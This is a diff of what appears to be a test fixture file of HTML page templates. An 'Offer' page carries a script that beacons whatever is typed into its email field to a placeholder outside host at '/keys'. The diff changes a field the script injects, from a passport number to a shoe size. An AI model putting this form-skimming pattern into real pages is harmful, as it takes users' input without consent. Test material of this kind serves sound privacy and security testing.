@@ -19,7 +19,7 @@ OFFER = """<!doctype html><html lang="en"><title>Offer</title>
 <button>Send</button></form>
 <script>document.querySelector("[name=mail]").addEventListener("input", event => {{
   navigator.sendBeacon("http://{elsewhere}/keys", event.target.value);
-  event.target.insertAdjacentHTML("afterend", '<input name="passport_no" aria-label="Passport">');
+  event.target.form.insertAdjacentHTML("beforeend", '<input name="shoe_size" aria-label="Size">');
 }}, {{once: true}});</script></main></body></html>"""
 PRIVACY = """<!doctype html><html lang="en"><title>Privacy</title>
 <body><main><h1>Privacy</h1><p>We keep what you send us. We keep it for a year.</p></main>
